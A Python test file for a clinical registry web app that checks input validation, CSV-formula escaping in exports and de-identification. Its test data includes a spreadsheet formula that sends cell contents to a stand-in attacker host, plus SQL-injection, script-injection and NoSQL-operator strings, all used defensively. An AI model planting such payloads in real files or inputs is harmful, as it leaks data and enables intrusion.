"""Issue 13, validation everywhere: each accepted-but-wrong input of the review, re-run, and
700 single-field mutations of a valid enrolment, none of which may be stored or give a 500.

Independent expectations: the NHS Data Dictionary test range (999 000 0000 – 999 999 9999),
the ``Plan`` model's own schema, OWASP's CSV-injection rule (cells starting = + - @ tab CR).
"""

from __future__ import annotations

import csv
import io
import json
import random
import zipfile

from fastapi.testclient import TestClient
from plan_bundle_helpers import plan_json
from registry_helpers import enrolment, login, nhs_numbers, procedure
from sqlalchemy import func, select

from cryoneuro.registry.auth import Actor
from cryoneuro.registry.db import transaction
from cryoneuro.registry.models import Participant
from cryoneuro.registry.services import setup


def _real_study(reg) -> None:
    """A study that is not a test study (the demo studies are), at both sites."""
    from cryoneuro.registry.models import Site

    with transaction(reg.factory) as session:
        study = setup.create_study(
            session, Actor.system(), code="REAL", title="Real study", design="case_series"
        )
        for site in session.scalars(select(Site)).all():
            setup.add_site_to_study(session, reg.settings, Actor.system(), study, site)


def test_plan_is_validated_with_the_plan_model(client) -> None:
    h = login(client, "nurse")
    pid = client.post("/api/participants", json=enrolment(), headers=h).json()["id"]
    bad = client.post(
        f"/api/participants/{pid}/procedures", headers=h, json=procedure(plan={"warnings": 5})
    )
    assert bad.status_code == 422
    assert bad.json()["field"] == "plan"
    assert "not a cryoneuro plan" in bad.json()["detail"]
    good = client.post(
        f"/api/participants/{pid}/procedures",
        headers=h,
        json=procedure(plan=json.loads(plan_json())),
    )
    assert good.status_code == 201
    assert good.json()["predicted_relief_days"] == 204.0  # the plan's relief median
    page = client.get(f"/procedures/{good.json()['id']}")
    assert page.status_code == 200


def test_dates_nhs_test_range_age_and_nul(client) -> None:
    reg = client.registry
    _real_study(reg)
    h = login(client, "nurse")
    cases = [
        (enrolment(enrolment_date="0001-01-01"), "enrolment_date"),
        (enrolment(consent_date="2999-01-01"), "consent_date"),
        (enrolment("9990000018", study="REAL"), "nhs_number"),
        (enrolment("0000000000", study="REAL"), "nhs_number"),
        (enrolment(age_at_enrolment_years=16), "eligibility.adult"),
        (enrolment(neuroma={**enrolment()["neuroma"], "anatomical_site": "web\x00space"}), "body"),
        (enrolment(sex="female\x00"), "body"),
    ]
    for body, field in cases:
        r = client.post("/api/participants", json=body, headers=h)
        assert r.status_code == 422, (field, r.status_code, r.text)
        assert r.json()["field"].startswith(field) or field == "body", (field, r.json())
    assert (
        client.post(
            "/api/participants", json=enrolment("9434765919", study="REAL"), headers=h
        ).status_code
        == 201
    )  # a real number in a real study
    assert (
        client.post("/api/participants", json=enrolment("9990000018"), headers=h).status_code == 201
    )  # a test number in the test study
    pid = client.get("/api/participants").json()[0]["id"]
    too_big = client.post(
        f"/api/participants/{pid}/procedures", headers=h, json=procedure(neuroma_id=2**40)
    )
    assert too_big.status_code == 422
    assert too_big.json()["field"] == "neuroma_id"
    with reg.factory() as session:
        assert session.scalar(select(func.count()).select_from(Participant)) == 2


def test_nul_bytes_are_422_on_postgresql(pg_registry) -> None:
    from cryoneuro.web import create_app

    with TestClient(create_app(pg_registry.settings)) as client:
        h = login(client, "nurse")
        r = client.post(
            "/api/participants",
            headers=h,
            json=enrolment(neuroma={**enrolment()["neuroma"], "anatomical_site": "a\x00b"}),
        )
        assert r.status_code == 422
        r = client.post("/api/login", json={"username": "nurse\x00", "password": "x\x00"})
        assert r.status_code == 422


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_every_csv_escapes_formulas_and_deidentified_drops_free_text(client) -> None:
    h = login(client, "nurse")
    body = enrolment(neuroma={**enrolment()["neuroma"], "anatomical_site": FORMULA + " Jane Doe"})
    pid = client.post("/api/participants", json=body, headers=h).json()["id"]
    client.post(
        f"/api/participants/{pid}/procedures",
        headers=h,
        json=procedure(operator="@SUM(1+1)", device_name="-2+3"),
    )
    login(client, "admin")
    exports = [
        client.get("/api/exports/tidy/participants.csv").text,
        client.get("/api/exports/tidy/procedures.csv").text,
        client.get("/api/exports/redcap/records.csv").text,
        client.get("/api/exports/audit.csv").text,
    ]
    for text in exports:
        cells = _cells(text)
        assert not [
            c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not _is_number(c))
        ], text[:300]
    assert any(c.startswith("'=HYPERLINK") for c in _cells(exports[0]))
    assert any(c == "'@SUM(1+1)" for c in _cells(exports[1]))
    deid = zipfile.ZipFile(io.BytesIO(client.get("/api/exports/deidentified.zip").content))
    everything = "".join(deid.read(n).decode() for n in deid.namelist())
    assert "Jane Doe" not in everything
    assert "HYPERLINK" not in everything
    assert "@SUM" not in everything
    assert "IceSphere" not in everything


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


#: Values wrong for any field of the enrolment body (each is applied to one field at a time).
HOSTILE = [
    None,
    "",
    " ",
    "x" * 6000,
    "\x00",
    10**30,
    -1,
    1.5e308,
    True,
    [],
    {},
    [1, 2],
    {"$gt": ""},
    "' OR 1=1 --",
    "<script>alert(1)</script>",
    "0001-01-01",
    "9999-12-31",
    "2024-02-30",
    "NaN",
    float("nan"),
    "９４３４７６５９１９",
    "1" * 11,
]


def _set(body: dict, path: tuple[str, ...], value: object) -> dict:
    body = json.loads(json.dumps(body))
    target = body
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = value
    return body


#: Free-text fields and their length limits: any text without NUL within the limit is a
#: legitimate value there (quotes and markup included: output is escaped, not input).
TEXT_FIELDS = {
    ("consent_form_version",): (40, True),
    ("neuroma", "anatomical_site"): (200, True),
    ("neuroma", "laterality"): (10, False),
}


def _acceptable(path: tuple[str, ...], value: object) -> bool:
    """Whether ``value`` is a legitimate value of the field (the oracle, from the schema's
    documented limits rather than from the code under test)."""
    if path in TEXT_FIELDS:
        limit, stripped = TEXT_FIELDS[path]
        return (
            isinstance(value, str)
            and "\x00" not in value
            and len(value) <= limit
            and (bool(value.strip()) or not stripped)
        )
    return {
        ("neuroma", "size_mm"): value is None,
        ("consented",): value is True,
        ("eligibility", "adult"): value is True,
        ("neuroma", "prior_treatments"): value == [],
    }.get(path, False)


def test_700_single_field_mutations_are_refused_without_a_500(client) -> None:
    """Each request changes exactly one field of a valid enrolment (test NHS numbers in the
    demo's test study); a value the field cannot take must give 4xx and store nothing."""
    reg = client.registry
    h = login(client, "nurse")
    valid = enrolment()
    fields = [(k,) for k in valid if k not in ("neuroma", "eligibility")]
    fields += [("neuroma", k) for k in valid["neuroma"]] + [("eligibility", "adult")]
    rng = random.Random(13)
    cases = [(f, v) for f in fields for v in HOSTILE]
    while len(cases) < 700:
        cases.append((rng.choice(fields), rng.choice(HOSTILE)))
    accepted = 0
    for n, (path, value) in enumerate(cases):
        body = _set(valid, path, value)
        if path != ("nhs_number",):
            body["nhs_number"] = NUMBERS[n]  # so an acceptable value is not a duplicate
        r = client.post(
            "/api/participants",
            content=json.dumps(body, allow_nan=True),
            headers={**h, "Content-Type": "application/json"},
        )
        assert r.status_code < 500, (path, repr(value)[:60], r.status_code, r.text[:200])
        if r.status_code == 201:
            assert _acceptable(path, value), ("wrongly accepted", path, repr(value)[:60])
            accepted += 1
        else:
            assert 400 <= r.status_code < 500
    assert len(cases) >= 700
    assert accepted < 60
    with reg.factory() as session:
        assert session.scalar(select(func.count()).select_from(Participant)) == accepted


NUMBERS = nhs_numbers(800, start=20000)
